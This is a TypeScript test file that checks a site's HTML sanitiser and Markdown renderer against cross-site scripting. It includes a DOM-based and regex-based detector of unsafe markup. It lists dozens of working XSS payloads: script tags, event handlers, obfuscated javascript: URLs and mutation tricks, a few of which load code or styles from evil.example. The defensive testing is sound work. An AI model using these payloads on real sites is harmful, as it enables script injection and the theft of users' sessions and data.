/**
 * Script and event-handler payloads, through the sanitiser alone (the second wall, for raw HTML)
 * and through the whole pipeline (Markdown as users type it): nothing that can run survives.
 */
import { Window } from 'happy-dom';
import sanitizeHtml from 'sanitize-html';
import { describe, expect, it } from 'vitest';
import { createMarkdownRenderer } from './pipeline';
import { sanitizeOptions } from './sanitize';

const SITE = 'answer.example.org';

/** Attributes that cannot run anything by themselves; their values are checked below. */
const HARMLESS_ATTRIBUTES = new Set(['href', 'src', 'alt', 'title', 'rel', 'target', 'class', 'style', 'start']);
const SAFE_TAGS = new Set(['p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'strong', 'em', 's', 'code', 'pre', 'span', 'blockquote', 'ul', 'ol', 'li', 'a', 'img', 'table', 'thead', 'tbody', 'tr', 'th', 'td']);
const URL_SCHEMES: Record<string, string[]> = { href: ['http', 'https', 'mailto'], src: ['http', 'https'] };

/** Leading characters browsers skip before reading a URL's scheme. */
const URL_PADDING = /^[\u0000-\u0020]+/;

function schemeOf(url: string): string | null {
  // browsers drop tabs and newlines anywhere in a URL before parsing it
  const cleaned = url.replace(URL_PADDING, '').replace(/[\t\n\r]/g, '');
  const match = /^([a-z][a-z0-9+.-]*):/i.exec(cleaned);
  return match ? match[1].toLowerCase() : null;
}

/** Every part of `html` that could run script, load something unexpected or restyle the page. */
function unsafeParts(html: string): string[] {
  const window = new Window();
  const template = window.document.createElement('template');
  template.innerHTML = html;
  const findings: string[] = [];
  for (const element of Array.from(template.content.querySelectorAll('*'))) {
    const tag = element.tagName.toLowerCase();
    if (!SAFE_TAGS.has(tag)) findings.push(`<${tag}>`);
    for (const attribute of Array.from(element.attributes)) {
      const { name } = attribute;
      const value = attribute.value ?? '';
      if (!HARMLESS_ATTRIBUTES.has(name)) findings.push(`${tag}[${name}]`);
      const allowedSchemes = URL_SCHEMES[name];
      const scheme = allowedSchemes ? schemeOf(value) : null;
      if (allowedSchemes && scheme !== null && !allowedSchemes.includes(scheme)) findings.push(`${tag}[${name}=${value}]`);
      if (name === 'class' && !value.split(/\s+/).every((token) => /^(hljs.*|language-[\w-]+)$/.test(token))) findings.push(`${tag}[class=${value}]`);
      if (name === 'style' && !/^text-align:(left|right|center);?$/.test(value)) findings.push(`${tag}[style=${value}]`);
    }
  }
  window.close();
  return findings;
}

/**
 * The same findings read from the text, in case the DOM parser here forgives what a browser
 * would not: a script tag, or a handler or script URL inside a tag. Text is escaped, so every `<`
 * left opens a real tag, and attribute values are double-quoted with their quotes escaped.
 */
const INSIDE_A_TAG = /<\s*(script|iframe|svg|object|embed|style)\b|<[^>]*\son\w+\s*=|<[^>]*=\s*["']?\s*(javascript|vbscript|data):/i;
const hasUnsafeMarkup = (html: string) => INSIDE_A_TAG.test(html.replace(/="([^"]*)"/g, (_match, value: string) => `="${schemeOnly(value)}"`));
/** Keeps a value's scheme, the only part of a quoted value that matters to the check above. */
const schemeOnly = (value: string) => (/^\s*[a-z][a-z0-9+.-]*:/i.exec(value)?.[0] ?? '');

const RAW_HTML_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<<script>script>alert(1)<</script>/script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="javascript:alert(1) 1x" src="https://ok.example/a.png">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href=" \x01javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://ok.example" onmouseover="alert(1)" target="_self" rel="opener">x</a>',
  '<a href="javascript:alert(1)"',
  '<div onclick="alert(1)">x</div>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<table><tr><td style="text-align:left;background-image:url(https://evil.example/t.png)">x</td></tr></table>',
  '<span style="position:fixed;inset:0">x</span>',
  '<code class="hljs d-none btn">x</code><span class="language-js position-fixed">y</span>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button><input autofocus onfocus=alert(1)></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="javascript:alert(1)//"><link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<template><script>alert(1)</script></template>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
];

const MARKDOWN_PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '<javascript:alert(1)>',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
  '![x](javascript:alert(1))',
  '![x](x" onerror="alert(1))',
  '![x](https://ok.example/a.png"onerror="alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '    <svg onload=alert(1)>',
  '`<script>alert(1)</script>`',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  'javascript:alert(1) and http://ok.example/"onmouseover="alert(1)',
];

describe('sanitiser allow-list', () => {
  it.each(RAW_HTML_PAYLOADS)('leaves nothing executable of %s', (payload) => {
    const html = sanitizeHtml(payload, sanitizeOptions(SITE));
    expect(unsafeParts(html)).toEqual([]);
    expect(hasUnsafeMarkup(html)).toBe(false);
  });

  it('keeps what Markdown renders to', () => {
    const html = '<h2>T</h2><p><a href="https://x.example" title="t">a</a> <img src="https://x.example/a.png" alt="a"></p><pre><code class="hljs language-js"><span class="hljs-keyword">const</span></code></pre><table><tr><td style="text-align:right">1</td></tr></table><ol start="2"><li>x</li></ol>';
    expect(sanitizeHtml(html, sanitizeOptions(SITE))).toBe(
      '<h2>T</h2><p><a href="https://x.example" title="t" rel="nofollow ugc noopener" target="_blank">a</a> <img src="https://x.example/a.png" alt="a" /></p><pre><code class="hljs language-js"><span class="hljs-keyword">const</span></code></pre><table><tr><td style="text-align:right">1</td></tr></table><ol start="2"><li>x</li></ol>',
    );
  });

  it('decides rel and target itself, whatever the input says', () => {
    const options = sanitizeOptions(SITE);
    expect(sanitizeHtml('<a href="/q" target="_blank" rel="opener">in</a>', options)).toBe('<a href="/q" rel="nofollow ugc">in</a>');
    expect(sanitizeHtml(`<a href="//${SITE}/q" target="_blank">own</a>`, options)).toBe(`<a href="//${SITE}/q" rel="nofollow ugc">own</a>`);
    expect(sanitizeHtml('<a href="//cdn.example/q">other</a>', options)).toBe('<a href="//cdn.example/q" rel="nofollow ugc noopener" target="_blank">other</a>');
  });
});

describe('markdown pipeline against script payloads', () => {
  const renderer = createMarkdownRenderer(() => SITE);

  it.each(MARKDOWN_PAYLOADS)('leaves nothing executable of %s', (payload) => {
    const html = renderer.render(payload);
    expect(unsafeParts(html)).toEqual([]);
    expect(hasUnsafeMarkup(html)).toBe(false);
  });

  it('shows typed HTML as text rather than dropping it', () => {
    expect(renderer.render('<script>alert(1)</script>')).toBe('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n');
  });
});
